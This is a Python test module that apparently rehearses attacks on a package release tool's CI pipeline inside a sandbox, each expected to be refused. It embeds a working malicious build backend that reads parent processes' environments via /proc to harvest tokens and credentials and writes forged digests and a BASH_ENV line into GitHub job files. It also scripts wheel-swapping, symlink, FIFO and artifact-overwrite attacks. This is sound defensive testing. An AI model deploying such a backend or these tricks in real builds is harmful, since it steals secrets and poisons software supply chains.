"""Attacks from inside a job: a build backend of the repository runs in one, and leaves what later steps could use.

The backend runs once, as a process of the command that builds a package. It reads what other processes of the job have
(`/proc`) and writes to every file that it finds there. Each attempt then uses one of its finds.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from http import HTTPStatus
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import TYPE_CHECKING, Any

from rnd import manifest, process
from rnd.errors import RndError
from rnd.publish.distribution import read_built
from rnd_rehearsal.artifacts import TOKEN, Artifacts
from rnd_rehearsal.attacks.machine import PATIENCE, folder, rnd
from rnd_rehearsal.attacks.matrix import Refused, attack
from rnd_rehearsal.sandbox import own_environment
from rnd_rehearsal.services import RESEARCHER

if TYPE_CHECKING:
    from rnd_rehearsal.attacks.arena import Arena

BOTH = ("contributor", "dependency")
REQUEST = ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_URL")
# What a step of a job can have in its environment; the values are recognised.
CREDENTIALS = (
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "GITHUB_TOKEN",
    "RND_REGISTRY_PASSWORD",
    "UV_PUBLISH_TOKEN",
)
FILES = ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT")
FORGED = "0" * 64
WHEEL = "wheel"
# The build backend, of the standard library. It records what it found in FOUND, and builds an honest wheel.
BACKEND = """\
import json, os, pathlib, re, shutil, zipfile

def build_wheel(folder, config_settings=None, metadata_directory=None):
    found = {"own": dict(os.environ), "others": {}}
    parent = os.getpid()
    while parent > 1:
        parent = int(pathlib.Path(f"/proc/{parent}/stat").read_text().rpartition(")")[2].split()[1])
        try:
            lines = pathlib.Path(f"/proc/{parent}/environ").read_bytes().decode(errors="replace").split("\\0")
        except OSError:
            continue
        for name, _, value in (line.partition("=") for line in lines):
            found["others"].setdefault(name, value)
    for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT"):
        if name in found["others"]:
            with open(found["others"][name], "a") as file:
                file.write(f"sha256=@FORGED@\\nBASH_ENV=evil.sh\\n")
    pathlib.Path("@FOUND@").write_text(json.dumps(found))
    shutil.copy("@WHEEL@", folder)
    return os.path.basename("@WHEEL@")

def build_sdist(folder, config_settings=None):
    import tarfile
    name = os.path.basename("@WHEEL@").partition("-py3")[0]
    with tarfile.open(os.path.join(folder, f"{name}.tar.gz"), "w:gz") as archive:
        for file in ("pyproject.toml", "README.md", "backend.py"):
            archive.add(file, f"{name}/{file}")
        archive.add(os.path.join(os.path.dirname("@WHEEL@"), "PKG-INFO"), f"{name}/PKG-INFO")
    return f"{name}.tar.gz"
"""


def make_wheel(place: Path, name: str, version: str, tag: str = "") -> Path:
    """Write a wheel with nothing in it, and return it."""
    base = f"{name.replace('-', '_')}-{version}"
    metadata = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nDescription-Content-Type: text/markdown\n\n# It\n"
    )
    (place / "PKG-INFO").write_text(metadata, encoding="utf-8")
    file = place / f"{base}{tag}-py3-none-any.whl"
    with zipfile.ZipFile(file, "w") as wheel:
        kind = "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        for path, text in (("METADATA", metadata), ("WHEEL", kind), ("RECORD", "")):
            wheel.writestr(f"{base}.dist-info/{path}", text)
    return file


def built(arena: Arena) -> dict[str, Any]:
    """Return what the backend found and what the job reports, from one run of it."""
    if "job" in arena.kept:
        return dict(arena.kept["job"])
    with folder(arena) as place:
        version = json.loads(rnd(arena, place, "version", "next", "--json"))["version"]
        rnd(arena, place, "version", "set", version)
        wheel = make_wheel(place.parent, arena.package(arena.victim), version)
        found, reported = place.parent / "found", {name: place.parent / name for name in FILES}
        text = BACKEND.replace("@FOUND@", str(found)).replace("@WHEEL@", str(wheel)).replace("@FORGED@", FORGED)
        (place / "backend.py").write_text(text, encoding="utf-8")
        project = (place / "pyproject.toml").read_text(encoding="utf-8").replace("[build-system]", "[tool.former]")
        project += '\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        (place / "pyproject.toml").write_text(project, encoding="utf-8")
        job = arena.job("pull", job_workflow_ref=f"{arena.victim}/.github/workflows/on_pr.yml@refs/pull/1/merge")
        variables = process.environment(own_environment(arena.actors.sandbox, RESEARCHER))
        variables |= arena.actors.sandbox.hub.id_tokens(arena.victim, job)
        variables |= {name: f"secret of {name}" for name in CREDENTIALS} | {n: str(p) for n, p in reported.items()}
        command = [sys.executable, "-m", "rnd", "release", "package", "--wheel", "--only-build", "--github-output"]
        ended = subprocess.run(
            [*command, "--out-dir", str(place.parent / WHEEL)], cwd=place, env=variables, stdin=subprocess.DEVNULL,
            capture_output=True, text=True, timeout=PATIENCE, check=False,
        )  # fmt: skip
        if ended.returncode != 0 or not found.exists():
            raise LookupError(f"The backend did not run: {ended.stdout}{ended.stderr}")
        outputs = dict(line.split("=", 1) for line in reported["GITHUB_OUTPUT"].read_text().splitlines())
        arena.kept["job"] = {
            **json.loads(found.read_text(encoding="utf-8")),
            "outputs": outputs,
            "wheel": wheel.read_bytes(),
            "name": wheel.name,
            "version": version,
        }
    return dict(arena.kept["job"])


@attack("I1", "dependency")
def in_environment(arena: Arena) -> object:
    """Finds a credential, or the file of a later step, in the environment of the build backend."""
    own = built(arena)["own"]
    found = [name for name in (*CREDENTIALS, *REQUEST, *FILES) if name in own]
    if not found and not any("secret of" in value for value in own.values()):
        raise Refused("rnd: the build has no credentials")
    return found


def _asks(wanted: str, event: dict[str, str]) -> None:
    """Declare the attempt to use what `/proc` shows of the job: the right to request its token."""

    def act(arena: Arena) -> object:
        others = built(arena)["others"]
        if not set(REQUEST) <= set(others):
            raise Refused("system: /proc shows no request token")
        return arena.call({**event, "token": arena.token(arena.job("pull"))})

    attack("I1", "dependency", way=f"reads the request token of its job in /proc, and asks for {wanted}")(act)


_asks("the release identity", {"identity": "release"})
_asks("the release app's token", {"github": "release"})
_asks("the candidate identity", {"identity": "candidate"})


@attack("I5", "dependency")
def forged_output(arena: Arena) -> object:
    """Writes another digest to the file of the job's outputs, which it finds in /proc."""
    job = built(arena)
    if job["outputs"]["sha256"] == hashlib.sha256(job["wheel"]).hexdigest():
        raise Refused("rnd: the digest is reported after the build")
    return job["outputs"]


def _handed_over(way: str, change: Any) -> None:  # noqa: ANN401 - a function of a folder and a job
    """Declare the attempt to hand over something else than the wheel that the job reported."""

    def act(arena: Arena) -> object:
        job = built(arena)
        with folder(arena) as place, TemporaryDirectory(prefix="rnd-hand-over-") as artifact:
            manifest.write_version(place, job["version"])
            file = Path(artifact, job["name"])
            file.write_bytes(job["wheel"])
            digest = hashlib.sha256(job["wheel"]).hexdigest()
            if read_built(place, file.parent, digest)[0].sha256 != digest:
                raise LookupError("The honest wheel is not accepted.")
            try:
                return read_built(place, file.parent, change(arena, file) or digest)
            except RndError as error:
                raise Refused(f"rnd: {error.code}") from error

    attack("I5", *BOTH, way=way)(act)


def _other_bytes(_: Arena, file: Path) -> None:
    with zipfile.ZipFile(file, "a") as wheel:
        wheel.writestr("evil.py", "")


def _other_digest(*_: object) -> str:
    return FORGED


def _second(_: Arena, file: Path) -> None:
    shutil.copyfile(file, file.with_name(file.name.replace("-py3", "-1-py3")))


def _second_project(arena: Arena, file: Path) -> None:
    """Leave the wheel of another project, whose name is sorted first."""
    make_wheel(file.parent, "aaa-" + arena.package(arena.evil), file.name.split("-")[1])


def _replaced(file: Path, made: Path) -> str:
    file.unlink()
    return hashlib.sha256(made.read_bytes()).hexdigest()


def _other_project(arena: Arena, file: Path) -> str:
    return _replaced(file, make_wheel(file.parent, arena.package(arena.evil), file.name.split("-")[1]))


def _other_version(arena: Arena, file: Path) -> str:
    return _replaced(file, make_wheel(file.parent, arena.package(arena.victim), "99.0"))


def _link(_: Arena, file: Path) -> None:
    real = file.rename(file.with_suffix(".kept"))
    file.symlink_to(real)


def _pipe(_: Arena, file: Path) -> None:
    file.unlink()
    os.mkfifo(file)


for _way, _change in (
    ("hands over a wheel that was changed after the job reported its digest", _other_bytes),
    ("hands over its wheel and reports the digest of another one", _other_digest),
    ("hands over a second wheel of the version, with a build tag", _second),
    ("hands over a second wheel, of another project", _second_project),
    ("hands over the wheel of another project", _other_project),
    ("hands over the wheel of another version", _other_version),
    ("hands over a link to a file on the machine that publishes", _link),
    ("hands over a pipe, which never ends", _pipe),
):
    _handed_over(_way, _change)


def _artifact(way: str, method: str, name: str, *, ended: bool = False) -> None:
    """Declare the attempt of a job to read or replace an artifact; run 1 is its own, and run 2 keeps `theirs`."""

    def act(arena: Arena) -> object:
        del arena  # these artifacts are of runs of their own
        artifacts = Artifacts()
        own, theirs = artifacts.admit(1, 1), artifacts.admit(2, 1)
        for job, kept in ((own, WHEEL), (theirs, "theirs")):
            if artifacts.answer("PUT", f"/{kept}", job[TOKEN], b"wheel")[0] != HTTPStatus.CREATED:
                raise LookupError("An honest job cannot keep its wheel.")
        if ended:
            artifacts.end(own)
        status, _, body = artifacts.answer(method, f"/{name}", own[TOKEN], b"evil")
        if status >= HTTPStatus.BAD_REQUEST:
            raise Refused(f"GitHub: {int(status)}")
        if method == "PUT" and artifacts.kept[2][0].content == b"wheel" and len(artifacts.kept[2]) == 1:
            raise Refused("GitHub: an artifact belongs to its run")
        return body

    attack("I5", *BOTH, way=way)(act)


_artifact("replaces the wheel that another job of the run has handed over", "PUT", WHEEL)
_artifact("reads the wheel of another run", "GET", "theirs")
_artifact("replaces the wheel of another run", "PUT", "theirs")
_artifact("replaces a wheel after its job has ended", "PUT", WHEEL, ended=True)
